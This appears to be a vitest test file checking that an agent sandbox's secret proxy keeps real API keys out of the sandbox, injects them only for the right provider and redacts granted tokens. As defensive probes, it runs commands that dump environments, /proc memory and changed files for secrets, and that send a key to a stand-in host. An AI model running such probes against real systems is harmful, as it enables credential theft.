import type http from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createLiveRedactor, createSecretMatcher } from '../../secrets/redactor.ts';
import type { ExecResult, Sandbox } from '../sandbox.ts';
import {
  inspect,
  type LogEntry,
  makeCertificate,
  openRealEgress,
  openServer,
  type RealEgress,
  recordingLogger,
  type TestServer,
  testBook,
} from './real-egress.test-support.ts';
import { keyOwners } from './secret-routes.ts';

const realKey = 'sk-ant-real-0123456789abcdefghij';
const granted = 'granted-9876543210-zyxwv';
const entries: LogEntry[] = [];
const keys: Record<string, string> = {
  ANTHROPIC_API_KEY: realKey,
  MY_TOKEN: granted,
  OTHER_TOKEN: 'never-given-42-42-42',
};
let provider: TestServer;
let elsewhere: TestServer;
let real: RealEgress;
let sandbox: Sandbox;

beforeAll(async () => {
  const tls = await makeCertificate(['api.anthropic.com', 'elsewhere.test']);
  // Gives back all that it got, as a careless provider might in an error.
  const echo = (request: http.IncomingMessage, response: http.ServerResponse, body: string) => {
    response.setHeader('x-echo', String(request.headers['x-api-key'] ?? ''));
    const text = JSON.stringify({ headers: request.headers, body, url: request.url });
    for (const piece of [text.slice(0, 60), text.slice(60, 75), text.slice(75)]) response.write(piece);
    response.end();
  };
  provider = await openServer(tls, echo);
  elsewhere = await openServer(undefined, echo);
  const owners = keyOwners.map((owner) =>
    owner.id === 'anthropic' ? { ...owner, origin: `https://api.anthropic.com:${provider.port}` } : owner,
  );
  const book = testBook({
    'api.anthropic.com': () => ['127.0.0.1'],
    'elsewhere.test': () => ['127.0.0.1'],
    'api.openai.com': () => ['10.0.0.1'],
  });
  const get = (name: string) => {
    const value = keys[name];
    return value === undefined ? undefined : { value, origin: 'vault' as const };
  };
  real = await openRealEgress(
    {
      network: 'allow-list',
      allowHosts: [`elsewhere.test:${elsewhere.port}`],
      env: { GREETING: 'hello there' },
      grantSecrets: ['MY_TOKEN', 'NOT_SET'],
      secretProxy: ['ANTHROPIC_API_KEY', 'OPENAI_API_KEY'],
    },
    { world: { secrets: { get }, book, owners, ca: tls.cert }, logger: recordingLogger(entries) },
  );
  sandbox = await real.manager.acquire({ tenantId: 'acme', sessionId: 'ses_secrets' });
});
afterAll(async () => {
  await real?.close();
  await Promise.all([provider?.close(), elsewhere?.close()]);
});
beforeEach(() => {
  provider.seen.length = 0;
  elsewhere.seen.length = 0;
});

const shell = (line: string) => sandbox.exec({ command: { shell: line } });
const text = ({ stdout, stderr }: ExecResult) => Buffer.concat([stdout, stderr]).toString('utf8');
const ask = `curl -sS -i "$ANTHROPIC_BASE_URL/v1/messages?beta=1"`;

describe('a key that is used through the server', () => {
  it('reaches its provider, and only a placeholder is seen inside', async () => {
    const answer = text(await shell(`${ask} -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"a":1}'`));
    expect(provider.seen).toMatchObject([
      { url: '/v1/messages?beta=1', method: 'POST', body: '{"a":1}', headers: { 'x-api-key': realKey } },
    ]);
    const placeholder = text(await shell('printf %s "$ANTHROPIC_API_KEY"'));
    expect(placeholder).toMatch(/^agentrail-placeholder-[0-9a-f-]{36}$/);
    expect(answer).toContain('HTTP/1.1 200 OK');
    expect(answer).toContain(`x-echo: ${placeholder}`);
    expect(answer).toContain(`"x-api-key":"${placeholder}"`);
    expect(answer).not.toContain(realKey);
  });

  it('is nowhere inside: not in an environment, not in memory that can be read, not at the engine', async () => {
    await shell(`${ask} -H "x-api-key: $ANTHROPIC_API_KEY"`);
    const everything = await shell(
      'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; find / -xdev -type f -newer /proc/1 2>/dev/null | xargs -r cat; true',
    );
    expect(text(everything)).toContain('agentrail-placeholder-');
    expect(text(everything)).not.toContain(realKey);
    expect(text(everything)).not.toContain(keys.OTHER_TOKEN);
    const facts = await inspect(real, sandbox.info.id);
    expect(facts).toContain('"NetworkMode":"none"');
    for (const value of [realKey, granted, 'agentrail-placeholder', 'hello there']) expect(facts).not.toContain(value);
  });

  it('is the one in force at each request', async () => {
    keys.ANTHROPIC_API_KEY = 'sk-ant-changed-0123456789';
    await shell(`${ask} -H "authorization: Bearer $ANTHROPIC_API_KEY"`);
    keys.ANTHROPIC_API_KEY = realKey;
    expect(provider.seen).toMatchObject([{ headers: { 'x-api-key': 'sk-ant-changed-0123456789' } }]);
    expect(provider.seen[0]?.headers.authorization).toBeUndefined();
  });

  it('is not put in for any other host', async () => {
    const sent = `curl -sS http://elsewhere.test:${elsewhere.port}/ -H "x-api-key: $ANTHROPIC_API_KEY"`;
    const answer = text(await shell(`${sent} -d "$ANTHROPIC_API_KEY"`));
    expect(answer).toContain('agentrail-placeholder-');
    expect(JSON.stringify(elsewhere.seen)).not.toContain(realKey);
    const host = `curl -sS --noproxy "" http://elsewhere.test:${elsewhere.port}/agentrail/anthropic/v1/messages`;
    await shell(`${host} -H "x-api-key: $ANTHROPIC_API_KEY"`);
    expect(JSON.stringify(elsewhere.seen)).not.toContain(realKey);
    expect(provider.seen).toEqual([]);
  });

  it('lets nobody send data out with a key of their own', async () => {
    expect(text(await shell(`${ask} -H "x-api-key: sk-ant-of-somebody-else" -d secret`))).toContain(
      'Send the value of ANTHROPIC_API_KEY as it stands in the environment',
    );
    expect(provider.seen).toEqual([]);
    const both = `${ask} -H "x-api-key: $ANTHROPIC_API_KEY" -H "authorization: Bearer sk-of-somebody-else"`;
    await shell(both);
    expect(provider.seen[0]?.headers.authorization).toBeUndefined();
  });

  it('goes to no address that is not public, and not where it is not set', async () => {
    expect(
      text(await shell('curl -sS "$OPENAI_BASE_URL/models" -H "authorization: Bearer $OPENAI_API_KEY"')),
    ).toContain('OPENAI_API_KEY is not set');
    keys.OPENAI_API_KEY = 'sk-openai-0123456789';
    expect(
      text(await shell('curl -sS "$OPENAI_BASE_URL/models" -H "authorization: Bearer $OPENAI_API_KEY"')),
    ).toContain('not on the public internet');
    delete keys.OPENAI_API_KEY;
  });

  it('is another placeholder in every sandbox, and none of another one’s counts', async () => {
    const own = text(await shell('printf %s "$ANTHROPIC_API_KEY"'));
    const other = await real.manager.acquire({ tenantId: 'acme', sessionId: 'ses_secrets_other' });
    const theirs = text(await other.exec({ command: { shell: 'printf %s "$ANTHROPIC_API_KEY"' } }));
    expect(theirs).not.toBe(own);
    const stolen = await other.exec({ command: { shell: `${ask} -H "x-api-key: ${own}"` } });
    expect(text(stolen)).toContain('HTTP/1.1 401');
    expect(provider.seen).toEqual([]);
  });

  it('ends with the setting', async () => {
    const { secretProxy } = real.config;
    real.config.secretProxy = [];
    const line = `curl -sS http://127.0.0.1:3128/agentrail/anthropic/v1/messages -H "x-api-key: x"; env | grep -c placeholder`;
    expect(text(await shell(line))).toMatch(/not one that the sandbox may use[\s\S]*\n0\n/);
    real.config.secretProxy = secretProxy;
  });

  it('is in no line of the log', () => {
    expect(JSON.stringify(entries)).not.toContain(realKey);
    expect(entries.map(({ fields }) => fields.secret)).toContain('ANTHROPIC_API_KEY');
  });
});

describe('what commands are given', () => {
  it('is what the configuration names, and nothing else', async () => {
    const lines = text(await shell('env')).split('\n');
    expect(lines).toEqual(expect.arrayContaining(['GREETING=hello there', `MY_TOKEN=${granted}`]));
    expect(lines.filter((line) => /^(NOT_SET|OTHER_TOKEN|DOCKER_HOST|AGENTRAIL)/.test(line))).toEqual([]);
  });

  it('is taken out of output by the redactor that every tool result passes', async () => {
    const matcher = createSecretMatcher([{ name: 'MY_TOKEN', value: granted }]);
    const redactor = createLiveRedactor(() => matcher);
    expect(redactor.redact(text(await shell('echo "$MY_TOKEN"; printf %s "$MY_TOKEN" | base64')))).toBe(
      '[redacted MY_TOKEN]\n[redacted MY_TOKEN]\n',
    );
  });
});
